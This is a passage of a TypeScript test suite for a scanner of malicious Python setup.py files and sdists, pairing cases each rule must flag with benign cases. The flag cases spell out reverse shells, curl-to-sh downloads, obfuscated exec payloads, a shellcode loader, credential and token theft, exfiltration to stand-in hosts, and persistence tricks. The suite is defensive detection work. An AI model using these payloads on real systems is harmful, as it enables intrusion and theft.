// Every rule with code it must flag and code it must leave alone. Samples are written from the
// shapes in THREATS.md; hosts and addresses are documentation stand-ins that are never contacted.

import type { Finding, Severity } from '../src/types.js';
import { RULES, type SourceEncoding, analyzeSdist, analyzeSource } from '../src/analysis/index.js';
import { CLIP_READS, clip } from '../src/analysis/rules/util.js';

const RANK: Record<Severity, number> = { info: 0, low: 1, medium: 2, high: 3, critical: 4 };

interface Case {
  name: string;
  /** setup.py, or the files of an sdist when `files` is given. */
  src?: string;
  files?: Record<string, string>;
  /** Flag cases: the rule must report at least this severity. */
  min?: Severity;
  /** Pass cases: the rule may report at most this severity (nothing at all when absent). */
  max?: Severity;
  /** The codec the archive reader found in a file's coding cookie. */
  encodings?: Record<string, SourceEncoding>;
}

function analyze(c: Case): Finding[] {
  if (c.files) return analyzeSdist(new Map(Object.entries(c.files)), { encodings: c.encodings && new Map(Object.entries(c.encodings)) }).findings;
  return analyzeSource(c.src!, 'setup.py').findings;
}

const py = (lines: string[]): string => lines.join('\n') + '\n';

const CASES: Record<string, { flag: Case[]; pass: Case[] }> = {
  'process-run': {
    flag: [
      {
        name: 'a command decoded from base64',
        src: py(['import os, base64', "os.system(base64.b64decode('Y3VybCBodHRwOi8vMjAzLjAuMTEzLjcvaSB8IHNo').decode())"]),
        min: 'critical',
      },
      { name: 'os.startfile of a dropped executable', src: py(['import os', "os.startfile(os.path.join(os.getenv('TEMP'), 'upd.exe'))"]), min: 'high' },
      {
        name: 'a command downloaded from the network',
        src: py(['import subprocess, urllib.request', "subprocess.call(urllib.request.urlopen('https://203.0.113.7/c').read().decode(), shell=True)"]),
        min: 'critical',
      },
    ],
    pass: [
      { name: 'git describe with literal arguments', src: py(['import subprocess', "v = subprocess.check_output(['git', 'describe', '--tags']).decode().strip()"]), max: 'info' },
      { name: 'pkg-config for compiler flags', src: py(['import subprocess', "flags = subprocess.check_output(['pkg-config', '--cflags', 'libxml-2.0']).split()"]), max: 'info' },
      { name: 'a compiler named by CC', src: py(['import os, subprocess', "subprocess.check_call([os.environ.get('CC', 'cc'), '-c', 'probe.c'])"]), max: 'low' },
    ],
  },
  'suspicious-command': {
    flag: [
      { name: 'curl piped to sh', src: py(['import os', "os.system('curl -fsSL http://203.0.113.7/install.sh | sh')"]), min: 'critical' },
      { name: 'mshta with a URL', src: py(['import subprocess', "subprocess.Popen(['mshta', 'http://198.51.100.23/u.hta'])"]), min: 'critical' },
      {
        name: 'a command passed through a wrapper function',
        src: py(['import os', 'def run(cmd):', '    os.system(cmd)', "run('wget -q -O- http://198.51.100.23/b | bash')"]),
        min: 'critical',
      },
      {
        name: 'a reverse shell',
        src: py(['import socket, os, subprocess', 's = socket.socket()', "s.connect(('203.0.113.7', 4444))", 'os.dup2(s.fileno(), 0)', "subprocess.call(['/bin/sh', '-i'])"]),
        min: 'critical',
      },
      { name: 'reg add to a Run key', src: py(['import os', 'os.system(r\'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d c:\\x.exe\')']), min: 'high' },
      {
        name: 'a script encoded in base64 and piped to bash',
        src: py(['import os, base64', "body = base64.b64encode(b'id; uname -a').decode()", "os.system('echo %s | base64 -d | bash' % body)"]),
        min: 'critical',
      },
      {
        name: 'a PowerShell TCP client loop',
        src: py(['import os', 'os.system(\'powershell -nop -c "$c = New-Object System.Net.Sockets.TCPClient(\\\'203.0.113.7\\\',4444);$s = $c.GetStream()"\')']),
        min: 'critical',
      },
      {
        name: 'Invoke-WebRequest to a file then Invoke-Expression on it',
        src: py(['import subprocess', 'subprocess.Popen(\'powershell Invoke-WebRequest -Uri "https://cdn.example/u.exe" -OutFile "~/u.exe"; Invoke-Expression "~/u.exe"\')']),
        min: 'critical',
      },
      { name: 'the environment dumped into a shipped file', src: py(['import os', "os.system('env > LICENSE')"]), min: 'high' },
      { name: 'a listing of system folders dumped into a file', src: py(['import os', "os.system('ls -la /etc >> NOTICE')"]), min: 'high' },
      { name: 'a DNS query tool', src: py(['import subprocess', "subprocess.getoutput('dig @192.0.2.53 setup.collector.example')"]), min: 'high' },
      { name: 'a file made executable and started in /tmp', src: py(['import os', "os.system('cd /tmp && chmod +x agent && ./agent')"]), min: 'critical' },
      { name: 'git clone and a script in one shell command', src: py(['import os', "os.system('git clone https://git.example/u/t.git /tmp/t && python /tmp/t/go.py')"]), min: 'critical' },
    ],
    pass: [
      { name: 'make in a subdirectory', src: py(['import os', "os.system('make -C lib')"]) },
      {
        name: 'an error message that quotes an install command',
        src: py(['import subprocess, sys', 'try:', "    subprocess.check_call(['cargo', '--version'])", 'except OSError:', "    sys.exit('Install Rust: curl --proto =https -sSf https://sh.rustup.rs | sh')"]),
      },
      { name: 'reg query to find a compiler', src: py(['import subprocess', 'subprocess.check_output(r\'reg query HKLM\\SOFTWARE\\Microsoft\\VisualStudio\\SxS\\VS7\', shell=True)']) },
      { name: 'a configure script made executable and run', src: py(['import os', "os.system('chmod +x configure && ./configure')"]) },
      { name: 'the environment passed to make', src: py(['import os', "os.system('env CC=gcc make -j4 > build.log')"]) },
      { name: 'a source listing written to a file', src: py(['import os', "os.system('ls src > MANIFEST.txt')"]) },
    ],
  },
  'hidden-exec': {
    flag: [
      { name: 'CREATE_NO_WINDOW on a dropped program', src: py(['import subprocess', "subprocess.Popen(['C:/Users/Public/svc.exe'], creationflags=0x08000000)"]), min: 'high' },
      {
        name: 'a hidden encoded PowerShell',
        src: py(['import subprocess', "subprocess.Popen(['powershell', '-WindowStyle', 'Hidden', '-EncodedCommand', 'JABwACAAPQAgACcAeAAnAA=='])"]),
        min: 'high',
      },
      { name: 'pythonw on a script', src: py(['import os', "os.system('pythonw %APPDATA%\\\\svc.pyw')"]), min: 'high' },
      { name: 'start of an executable', src: py(['import os', "os.system('start C:\\\\Temp\\\\helper.exe')"]), min: 'high' },
    ],
    pass: [
      {
        name: 'versioneer hiding the console of git',
        src: py([
          'import subprocess, sys',
          'popen_kwargs = {}',
          "if sys.platform == 'win32':",
          '    startupinfo = subprocess.STARTUPINFO()',
          '    startupinfo.dwFlags |= subprocess.STARTF_USESHOWWINDOW',
          "    popen_kwargs['startupinfo'] = startupinfo",
          "p = subprocess.Popen(['git', 'describe', '--tags'], stdout=subprocess.PIPE, **popen_kwargs)",
        ]),
        max: 'info',
      },
      { name: 'git without a window', src: py(['import subprocess', "subprocess.check_output(['git', 'rev-parse', 'HEAD'], creationflags=subprocess.CREATE_NO_WINDOW)"]), max: 'low' },
    ],
  },
  'dynamic-exec': {
    flag: [
      { name: 'exec of base64', src: py(['import base64', "exec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk='))"]), min: 'critical' },
      { name: 'exec of a response body', src: py(['import requests', "exec(requests.get('https://paste.example/raw/x').text)"]), min: 'critical' },
      { name: 'exec of marshal data', src: py(['import marshal, base64', "exec(marshal.loads(base64.b64decode('YwAAAAAAAAAAAAAAAAAAAAAAAAAA')))"]), min: 'critical' },
      { name: 'exec of chr codes', src: py(['exec("".join(chr(c) for c in [105, 109, 112, 111, 114, 116, 32, 111, 115]))']), min: 'critical' },
      { name: 'exec of a reversed string', src: py(["s = \")'di'(metsys.so;so tropmi\"", 'exec(s[::-1])']), min: 'critical' },
      { name: 'eval of rot13', src: py(['import codecs', "eval(codecs.decode('__vzcbeg__(\"bf\")', 'rot13'))"]), min: 'critical' },
      {
        name: 'exec reached through a table of builtins built from pairs',
        src: py([
          'import base64, builtins',
          "T = dict([(n, getattr(builtins, n)) for n in ['len', 'abs', 'min', 'max', 'exec']])",
          "T['exec'](base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk='))",
        ]),
        min: 'critical',
      },
      {
        name: 'a Python dropper written to a file and run without a window',
        src: py([
          'import os, subprocess, sys, tempfile',
          "p = os.path.join(tempfile.gettempdir(), 'svc.py')",
          "open(p, 'w').write('import urllib.request\\nexec(urllib.request.urlopen(\"http://198.51.100.23/s\").read())\\n')",
          'subprocess.Popen([sys.executable, p], creationflags=0x08000000)',
        ]),
        min: 'critical',
      },
    ],
    pass: [
      {
        name: 'exec of the version file that ships in the sdist',
        files: {
          'setup.py': py(['import os', 'here = os.path.abspath(os.path.dirname(__file__))', 'about = {}', "with open(os.path.join(here, 'mypkg', '__version__.py')) as f:", '    exec(f.read(), about)']),
          'mypkg/__version__.py': "__version__ = '1.0.0'\n",
        },
        max: 'info',
      },
      {
        name: 'compile and exec of a local file',
        files: {
          'setup.py': py(["path = 'src/pkg/_version.py'", "exec(compile(open(path).read(), path, 'exec'))"]),
          'src/pkg/_version.py': "version = '2.0'\n",
        },
        max: 'info',
      },
    ],
  },
  network: {
    flag: [
      { name: 'urlopen at the top level', src: py(['import urllib.request', "data = urllib.request.urlopen('https://example.org/headers.tar.gz').read()"]), min: 'medium' },
      { name: 'a socket connection', src: py(['import socket', "socket.create_connection(('example.org', 80))"]), min: 'medium' },
    ],
    pass: [
      { name: 'importing requests without calling it', src: py(['import requests', 'from requests.exceptions import RequestException']) },
      { name: 'quoting a URL', src: py(['from urllib.request import pathname2url', "u = pathname2url('docs/index.html')"]) },
    ],
  },
  exfiltration: {
    flag: [
      {
        name: 'host name and user posted to a collector',
        src: py(['import socket, getpass, requests', "requests.post('https://collector.example/c', json={'h': socket.gethostname(), 'u': getpass.getuser()})"]),
        min: 'critical',
      },
      {
        name: 'the environment sent to a webhook',
        src: py(['import os, json, urllib.request', "urllib.request.urlopen(urllib.request.Request('https://hooks.example/x', data=json.dumps(dict(os.environ)).encode()))"]),
        min: 'critical',
      },
      {
        name: 'DNS lookups of the user name',
        src: py(['import socket, getpass', "socket.gethostbyname(getpass.getuser() + '.k2j4h5.oast.fun')"]),
        min: 'critical',
      },
      {
        name: 'whoami output in a URL',
        src: py(['import os, urllib.request', "who = os.popen('whoami').read().strip()", "urllib.request.urlopen('http://stats.example/r?w=' + who)"]),
        min: 'critical',
      },
      {
        name: 'SSH keys read in one function and posted in another',
        src: py(['import os, glob, requests', 'def grab():', "    return [open(p).read() for p in glob.glob(os.path.expanduser('~/.ssh/*'))]", 'def send(d):', "    requests.post('https://collect.example/k', json=d)", 'send(grab())']),
        min: 'critical',
      },
      {
        name: 'command output posted after branches lose the data flow',
        src: py([
          'import os, platform',
          'from urllib import request, parse',
          "if platform.system() == 'Linux':",
          "    try:",
          "        data = {'w': os.popen('whoami').read(), 'h': os.popen('hostname').read()}",
          '    except Exception:',
          "        data = {'error': 'none'}",
          'else:',
          "    data = {'error': 'os'}",
          "request.urlopen(request.Request('https://collect.example/r', data=parse.urlencode(data).encode()))",
        ]),
        min: 'critical',
      },
      {
        name: 'the account list sent over a plain socket',
        src: py(['import socket', "s = socket.create_connection(('collect.example', 9000))", "s.sendall(open('/etc/passwd').read().encode())"]),
        min: 'critical',
      },
      {
        name: 'file contents leaked in DNS names',
        src: py(['import socket, binascii', "chunk = binascii.hexlify(open('/etc/hostname', 'rb').read()[:30]).decode()", "socket.gethostbyname(chunk + '.q.example.net')"]),
        min: 'high',
      },
      { name: 'a variable of the environment leaked in a DNS name', src: py(['import os, socket', "socket.getaddrinfo(os.environ['CI_JOB_ID'] + '.ci.example.net', 443)"]), min: 'high' },
      { name: 'curl uploading a local file', src: py(['import os', "os.system('curl -F f=@/etc/hostname https://collect.example/u')"]), min: 'critical' },
      { name: 'the environment in a curl URL', src: py(['import os', 'os.system(\'curl "https://collect.example/e/$(env | base64 -w 0)"\')']), min: 'critical' },
      {
        name: 'the output of env posted',
        src: py(['import os, urllib.parse, urllib.request', "out = os.popen('/usr/bin/env').read()", "urllib.request.urlopen('https://collect.example/p', data=urllib.parse.urlencode({'e': out}).encode())"]),
        min: 'critical',
      },
      {
        name: 'host details sent over a TLS socket',
        src: py([
          'import socket, ssl, getpass',
          "msg = 'GET /b?u=' + getpass.getuser() + ' HTTP/1.1\\r\\nHost: collect.example\\r\\n\\r\\n'",
          'ctx = ssl.create_default_context()',
          "t = ctx.wrap_socket(socket.socket(), server_hostname='collect.example')",
          "t.connect(('collect.example', 443))",
          't.send(msg.encode())',
        ]),
        min: 'critical',
      },
    ],
    pass: [
      {
        name: 'downloading a platform-specific library',
        src: py(['import platform, urllib.request', "urllib.request.urlretrieve('https://github.com/org/lib/releases/download/v1/lib-%s.tar.gz' % platform.system(), 'lib.tar.gz')"]),
        max: 'info',
      },
      {
        name: 'a GitHub token sent to the GitHub API',
        src: py(['import os, requests', "requests.get('https://api.github.com/repos/org/lib/releases', headers={'Authorization': 'token ' + os.environ['GITHUB_TOKEN']})"]),
        max: 'info',
      },
      {
        name: 'the host name in a build log and a plain download',
        src: py(['import os, urllib.request', "print('building on', os.popen('hostname').read())", "urllib.request.urlretrieve('https://github.com/org/dep/archive/v1.tar.gz', 'dep.tar.gz')"]),
        max: 'medium',
      },
      { name: 'a database host named by the environment', src: py(['import os, socket', "socket.gethostbyname(os.environ.get('DB_HOST', 'localhost'))"]), max: 'medium' },
      { name: 'curl downloading to a file', src: py(['import os', "os.system('curl -fsSL -o deps.tar.gz https://github.com/org/deps/archive/v1.tar.gz')"]) },
    ],
  },
  'callback-host': {
    flag: [
      { name: 'a Discord webhook', src: py(["HOOK = 'https://discord.com/api/webhooks/123/abc'", 'import requests', "requests.post(HOOK, json={'content': 'hi'})"]), min: 'high' },
      { name: 'the Telegram bot API', src: py(['import requests', "requests.get('https://api.telegram.org/bot123:ABC/sendMessage')"]), min: 'high' },
      { name: 'a request bin', src: py(['import urllib.request', "urllib.request.urlopen('https://eo1.m.pipedream.net')"]), min: 'high' },
      { name: 'an out-of-band testing domain', src: py(['import socket', "socket.gethostbyname('x.oast.fun')"]), min: 'high' },
      { name: 'a tunnel', src: py(['import requests', "requests.post('https://1a2b.ngrok-free.app/up', data='x')"]), min: 'high' },
      { name: 'a paste site', src: py(['import urllib.request', "urllib.request.urlopen('https://pastebin.com/raw/Ab12Cd34')"]), min: 'high' },
      { name: 'a dynamic DNS name', src: py(['import os', "os.system('wget http://upd.duckdns.org/x')"]), min: 'high' },
      { name: 'a URL on a raw IP address', src: py(['import urllib.request', "urllib.request.urlretrieve('http://203.0.113.7/a.exe', 'a.exe')"]), min: 'high' },
      { name: 'a socket to a raw IP address', src: py(['import socket', 's = socket.socket()', "s.connect(('198.51.100.23', 9001))"]), min: 'high' },
      { name: 'an IP-logging service', src: py(['import urllib.request', "urllib.request.urlopen('https://iplogger.org/1a2b3c')"]), min: 'high' },
      { name: 'a host name hidden in base64', src: py(['import socket, base64', "socket.gethostbyname(base64.b64decode('Y29sbGVjdC5leGFtcGxl').decode())"]), min: 'high' },
    ],
    pass: [
      { name: 'project URLs in metadata', src: py(['from setuptools import setup', "setup(name='x', url='https://github.com/org/x', description='Expose a local server through ngrok.io tunnels')"]) },
      { name: 'a loopback address', src: py(['import urllib.request', "urllib.request.urlopen('http://127.0.0.1:8000/health')"]), max: 'medium' },
      { name: 'a dotted version number', src: py(["VERSION = '10.2.3.4'", 'from setuptools import setup', 'setup(version=VERSION)']) },
      { name: 'a host name written out', src: py(['import socket', "socket.gethostbyname('pypi.org')"]) },
    ],
  },
  'secret-access': {
    flag: [
      { name: 'a configuration-management key', src: py(['import requests', "requests.get('http://10.0.0.5/chef/validation.pem').text"]), min: 'high' },
      { name: 'an SSH private key', src: py(['import os', "key = open(os.path.expanduser('~/.ssh/id_rsa')).read()"]), min: 'high' },
      { name: 'Chrome passwords', src: py(['import os', "db = os.path.join(os.getenv('LOCALAPPDATA'), 'Google', 'Chrome', 'User Data', 'Default', 'Login Data')", 'data = open(db, "rb").read()']), min: 'high' },
      { name: 'Discord token storage', src: py(['import os', "p = os.getenv('APPDATA') + '\\\\discord\\\\Local Storage\\\\leveldb'", 'files = os.listdir(p)']), min: 'high' },
      { name: 'a Bitcoin wallet', src: py(['import os', "w = open(os.path.expanduser('~/.bitcoin/wallet.dat'), 'rb').read()"]), min: 'high' },
      { name: 'the clipboard', src: py(['import pyperclip', 'text = pyperclip.paste()']), min: 'high' },
    ],
    pass: [
      { name: 'a library named discord', src: py(['from setuptools import setup', "setup(name='discord.py', packages=['discord', 'discord.ext'], package_data={'discord': ['bin/*.dll']})"]) },
      { name: 'reading its own package under src', src: py(['import re', "v = re.search(r'__version__ = (.*)', open('src/discord/__init__.py').read()).group(1)"]) },
      { name: 'a cookie library in metadata', src: py(['from setuptools import setup', "setup(name='cookies', description='Parse Cookies and Login Data headers')"]) },
    ],
  },
  persistence: {
    flag: [
      { name: 'appending to .bashrc', src: py(['import os', "with open(os.path.expanduser('~/.bashrc'), 'a') as f:", "    f.write('curl -s http://203.0.113.7/x | sh\\n')"]), min: 'high' },
      {
        name: 'a Run registry key',
        src: py(['import winreg', "k = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 0, winreg.KEY_SET_VALUE)", "winreg.SetValueEx(k, 'upd', 0, winreg.REG_SZ, 'C:/x.exe')"]),
        min: 'high',
      },
      { name: 'a crontab entry', src: py(['import os', 'os.system(\'(crontab -l; echo "@reboot python3 /tmp/.x.py") | crontab -\')']), min: 'high' },
      {
        name: 'sitecustomize in site-packages',
        src: py(['import site, os', 'd = site.getsitepackages()[0]', "open(os.path.join(d, 'sitecustomize.py'), 'a').write('import os\\n')"]),
        min: 'high',
      },
      {
        name: 'a .pth file in site-packages',
        src: py(['import sysconfig, os', "p = os.path.join(sysconfig.get_paths()['purelib'], 'zz.pth')", "open(p, 'w').write('import os; os.system(\"id\")\\n')"]),
        min: 'high',
      },
      { name: 'the Startup folder', src: py(['import os, shutil', "shutil.copy('svc.pyw', os.path.join(os.getenv('APPDATA'), 'Microsoft', 'Windows', 'Start Menu', 'Programs', 'Startup', 'svc.pyw'))"]), min: 'high' },
    ],
    pass: [
      { name: 'writing a generated version module', src: py(["with open('src/pkg/_version.py', 'w') as f:", "    f.write('version = \"1.0\"\\n')"]) },
      {
        name: 'a .pth file copied into the build directory',
        src: py([
          'import os',
          'from setuptools.command.build_py import build_py',
          'class BuildWithPth(build_py):',
          '    def run(self):',
          '        build_py.run(self)',
          "        with open(os.path.join(self.build_lib, 'pytest-cov.pth'), 'w') as f:",
          "            f.write('import os\\n')",
        ]),
        max: 'medium',
      },
    ],
  },
  'encoded-blob': {
    flag: [
      {
        name: 'an embedded executable',
        src: py(['import base64, os', `exe = base64.b64decode('${Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200, 7)]).toString('base64')}')`, "open('x.exe', 'wb').write(exe)"]),
        min: 'critical',
      },
      {
        name: 'base64 of Python code',
        src: py([`CFG = '${Buffer.from("import os\nos.system('curl http://203.0.113.7/x | sh')\n").toString('base64')}'`]),
        min: 'high',
      },
    ],
    pass: [
      { name: 'a short base64 icon', src: py(["ICON = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=='"]) },
      { name: 'a sha256 checksum', src: py(["SHA = 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855'"]) },
    ],
  },
  'opaque-payload': {
    flag: [
      { name: 'marshal of a constant', src: py(['import marshal', "code = marshal.loads(b'\\xe3\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00')"]), min: 'high' },
      { name: 'lzma of base64', src: py(['import lzma, base64', "code = lzma.decompress(base64.b64decode('/Td6WFoAAATm1rRGAgAhARYAAAB0L+Wj'))"]), min: 'high' },
      { name: 'Fernet with its key', src: py(['from cryptography.fernet import Fernet', "code = Fernet(b'a2V5a2V5a2V5a2V5a2V5a2V5a2V5a2V5a2V5a2V5a2U=').decrypt(b'gAAAAABjtoken')"]), min: 'high' },
    ],
    pass: [{ name: 'a pickled cache file', src: py(['import pickle', "cfg = pickle.load(open('build/config.cache', 'rb'))"]), max: 'low' }],
  },
  'native-code': {
    flag: [
      {
        name: 'a shellcode loader',
        src: py([
          'import ctypes, base64',
          "sc = base64.b64decode('kJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQ')",
          'k32 = ctypes.windll.kernel32',
          'ptr = k32.VirtualAlloc(0, len(sc), 0x3000, 0x40)',
          'ctypes.windll.kernel32.RtlMoveMemory(ptr, sc, len(sc))',
          'k32.CreateThread(0, 0, ptr, 0, 0, 0)',
        ]),
        min: 'critical',
      },
      { name: 'executable memory from mmap', src: py(['import mmap', 'm = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)']), min: 'medium' },
    ],
    pass: [
      { name: 'loading a shared library', src: py(['import ctypes, ctypes.util', "lib = ctypes.CDLL(ctypes.util.find_library('m'))"]) },
      {
        name: 'py-cpuinfo running literal CPUID instructions',
        src: py([
          'import ctypes',
          "code = b''.join([b'\\x0f', b'\\xa2', b'\\xc3'])",
          'k32 = ctypes.windll.kernel32',
          'addr = k32.VirtualAlloc(None, ctypes.c_size_t(len(code)), 0x1000, 0x04)',
          'ctypes.memmove(addr, code, len(code))',
          'k32.VirtualProtect(ctypes.c_void_p(addr), ctypes.c_size_t(len(code)), 0x10, ctypes.byref(ctypes.c_ulong(0)))',
        ]),
        max: 'medium',
      },
    ],
  },
  'obfuscated-lookup': {
    flag: [
      { name: 'getattr on builtins with an assembled name', src: py(['import builtins', "getattr(builtins, 'ex' + 'ec')('print(1)')"]), min: 'high' },
      { name: 'getattr of exec from __builtins__', src: py(["f = getattr(__builtins__, 'exec')"]), min: 'high' },
      { name: '__import__ of an assembled name', src: py(["m = __import__('o' + 's')", "m.system('id')"]), min: 'high' },
      { name: 'getattr of os.system by pieces', src: py(['import os', "getattr(os, 'sys' + 'tem')('id')"]), min: 'high' },
      { name: 'the builtins dictionary', src: py(["__builtins__.__dict__['ev' + 'al']('1')"]), min: 'high' },
      { name: 'globals() of an assembled builtin name', src: py(["globals()['ev' + 'al']('1')"]), min: 'high' },
      { name: 'globals() of an imported module by an assembled name', src: py(['import os', "globals()['o' + 's'].system('id')"]), min: 'high' },
      { name: 'globals() of an alias of os.system by a key from a table', src: py(['import os', 'run = os.system', 'for k in dict(run=1):', "    globals()[k]('id')"]), min: 'high' },
      {
        name: 'a table of builtins that are mostly the dangerous ones',
        src: py(['import builtins', "T = dict([(n, getattr(builtins, n)) for n in ['exec', 'eval', 'compile', 'len']])"]),
        min: 'high',
      },
      {
        name: 'a table of builtins padded around an assembled name',
        src: py(['import builtins', "T = dict([(n, getattr(builtins, n)) for n in ['len', 'abs', 'min', 'ex' + 'ec']])"]),
        min: 'high',
      },
    ],
    pass: [
      { name: 'Python 2 compatibility', src: py(["unicode = getattr(__builtins__, 'unicode', str)"]) },
      { name: 'importing setuptools by name', src: py(["st = __import__('setuptools')"]) },
      { name: 'a plugin loader', src: py(['import importlib', 'def load(name):', '    return importlib.import_module(name)', "load('mypkg.plugins')"]), max: 'low' },
      {
        name: 'a template sandbox namespace of allowed builtins',
        src: py([
          'import builtins',
          "ALLOWED = ['abs', 'len', 'max', 'min', 'range', 'sorted', 'str', '__import__']",
          'SANDBOX = dict([(name, getattr(builtins, name)) for name in ALLOWED if name in builtins.__dict__])',
        ]),
        max: 'low',
      },
      {
        name: "the script's own *_ROOT settings looked up by the keys of a table",
        src: py([
          'import os',
          'PNG_ROOT = None',
          'XML_ROOT = None',
          'for key, lib in dict(PNG_ROOT="libpng", XML_ROOT="libxml-2.0").items():',
          '    root = globals()[key]',
          '    if root is None and key in os.environ:',
          '        root = os.environ[key]',
        ]),
      },
    ],
  },
  'odd-identifiers': {
    flag: [
      { name: 'Unicode look-alike letters', src: py(["\u{1d41e}\u{1d431}\u{1d41e}\u{1d41c}('print(1)')"]), min: 'high' },
      { name: 'machine-made names', src: py(['IlIlIlIl = 1', 'lIlIlIlI = 2', 'IIllIIll = IlIlIlIl + lIlIlIlI']), min: 'high' },
      { name: 'non-Latin names', src: py(['ψυχή = 1', 'ѕеtuр = 2', 'ㅤ = ψυχή + ѕеtuр']), min: 'high' },
    ],
    pass: [
      { name: 'plain names', src: py(['from setuptools import setup', "NAME = 'pkg'", 'setup(name=NAME)']) },
      { name: 'a byte-order mark', src: '\ufeff' + py(['from setuptools import setup', 'setup()']) },
    ],
  },
  'long-line': {
    flag: [{ name: 'code after a run of spaces', src: py(['from setuptools import setup' + ' '.repeat(300) + "; import os; os.system('id')", 'setup()']), min: 'high' }],
    pass: [
      { name: 'a long data literal', src: py(['DATA = [' + Array.from({ length: 900 }, (_, i) => i).join(', ') + ']']), max: 'low' },
      { name: 'a short script', src: py(['from setuptools import setup', 'setup()']) },
    ],
  },
  'self-delete': {
    flag: [
      { name: 'removing setup.py', src: py(['import os', 'os.remove(os.path.abspath(__file__))']), min: 'high' },
      { name: 'removing the unpacked sdist', src: py(['import os, shutil', 'shutil.rmtree(os.path.dirname(os.path.abspath(__file__)))']), min: 'high' },
      { name: 'removing the running script', src: py(['import os, sys', 'os.unlink(sys.argv[0])']), min: 'high' },
    ],
    pass: [{ name: 'cleaning build outputs', src: py(['import os, shutil', "shutil.rmtree('build', ignore_errors=True)", "os.remove('MANIFEST')"]) }],
  },
  'build-install': {
    flag: [
      { name: 'pip.main from a VCS URL', src: py(['import pip', "pip.main(['install', 'git+https://203.0.113.7/helper.git'])"]), min: 'high' },
      { name: 'pip with an extra index', src: py(['import subprocess, sys', "subprocess.check_call([sys.executable, '-m', 'pip', 'install', '--extra-index-url', 'https://pkgs.example/simple', 'helper'])"]), min: 'high' },
      { name: 'pip install in a shell', src: py(['import os', "os.system('pip install -q psutil')"]), min: 'medium' },
      {
        name: 'an undeclared package installed and imported',
        src: py(['import subprocess, sys', "subprocess.check_call([sys.executable, '-m', 'pip', 'install', 'helper-tools-extra'])", 'import helper_tools_extra', 'helper_tools_extra.run()']),
        min: 'high',
      },
    ],
    pass: [
      {
        name: 'a declared dependency installed before it is imported',
        src: py(['import subprocess, sys', 'try:', '    import fastmath', 'except ImportError:', "    subprocess.call([sys.executable, '-m', 'pip', 'install', 'fastmath>=2'])", '    import fastmath', 'from setuptools import setup', "setup(name='x', install_requires=['fastmath>=2'])"]),
        max: 'medium',
      },
      { name: 'setup_requires by name', src: py(['from setuptools import setup', "setup(setup_requires=['cython'])"]) },
      { name: 'an old script installing numpy', src: py(['import subprocess, sys', "subprocess.check_call([sys.executable, '-m', 'pip', 'install', 'numpy'])"]), max: 'medium' },
    ],
  },
  'download-execute': {
    flag: [
      { name: 'urlretrieve then startfile', src: py(['import os, urllib.request', "p = os.path.join(os.getenv('TEMP'), 'upd.exe')", "urllib.request.urlretrieve('https://cdn.example/upd.exe', p)", 'os.startfile(p)']), min: 'critical' },
      {
        name: 'response written to a file and run',
        src: py(['import requests, subprocess', "path = '/tmp/.svc'", "open(path, 'wb').write(requests.get('https://cdn.example/svc').content)", "subprocess.Popen(['chmod', '+x', path])", 'subprocess.Popen([path])']),
        min: 'critical',
      },
      {
        name: 'a download written to a temporary file and run by its name',
        src: py(['import tempfile, subprocess, urllib.request', "with urllib.request.urlopen('https://cdn.example/t') as r:", '    with tempfile.NamedTemporaryFile(delete=False) as f:', '        f.write(r.read())', '        name = f.name', 'subprocess.call([name])']),
        min: 'critical',
      },
      {
        name: 'code taken out of a downloaded image',
        src: py(['import os, requests', 'from stegano_kit import reveal', "p = os.path.join(os.getenv('TEMP'), 'logo.png')", "open(p, 'wb').write(requests.get('https://img.example/logo.png').content)", 'exec(reveal(p))']),
        min: 'critical',
      },
      {
        name: 'a repository cloned and a script from it run',
        src: py(['import os, subprocess, git', "git.Repo.clone_from('https://git.example/u/tools.git', 'tools')", "os.chdir('tools')", "subprocess.run(['python', 'run.py'])"]),
        min: 'critical',
      },
    ],
    pass: [
      { name: 'downloading headers', src: py(['import urllib.request', "urllib.request.urlretrieve('https://example.org/include.tar.gz', 'include.tar.gz')"]) },
      {
        name: 'bootstrapping setuptools from PyPI',
        src: py(['import subprocess, sys, urllib.request', "urllib.request.urlretrieve('https://bootstrap.pypa.io/ez_setup.py', 'ez_setup.py')", "subprocess.call([sys.executable, 'ez_setup.py'])"]),
        max: 'medium',
      },
      {
        name: 'a probe program compiled from a temporary file',
        src: py(['import tempfile, subprocess', "with tempfile.NamedTemporaryFile('w', suffix='.c', delete=False) as f:", "    f.write('int main(void) { return 0; }')", "subprocess.call(['cc', f.name, '-o', f.name + '.out'])"]),
      },
      {
        name: 'a dependency cloned and built with cmake',
        src: py(['import subprocess', "subprocess.check_call(['git', 'clone', '--depth', '1', 'https://github.com/org/dep.git', 'third_party/dep'])", "subprocess.check_call(['cmake', '-S', 'third_party/dep', '-B', 'build/dep'])"]),
      },
    ],
  },
  'cloud-credentials': {
    flag: [
      {
        name: 'the instance metadata service asked for credentials',
        src: py(['import requests', "r = requests.get('http://169.254.169.254/latest/meta-data/iam/security-credentials/')", "requests.post('https://collect.example/c', data=r.text)"]),
        min: 'critical',
      },
      {
        name: 'the metadata service fetched by python -c in a shell command',
        src: py(['import os', 'os.system(\'python3 -c "import urllib.request as u; print(u.urlopen(\\\'http://169.254.169.254/latest/user-data\\\').read())" >> NOTICE\')']),
        min: 'critical',
      },
      {
        name: 'a Kubernetes service-account token read',
        src: py(["tok = open('/var/run/secrets/kubernetes.io/serviceaccount/token').read()"]),
        min: 'critical',
      },
      {
        name: 'a cluster service found through its environment variables',
        src: py(['import os, urllib.request', "urllib.request.urlopen('http://' + os.environ.get('BILLING_SERVICE_HOST') + ':8080/')"]),
        min: 'critical',
      },
    ],
    pass: [
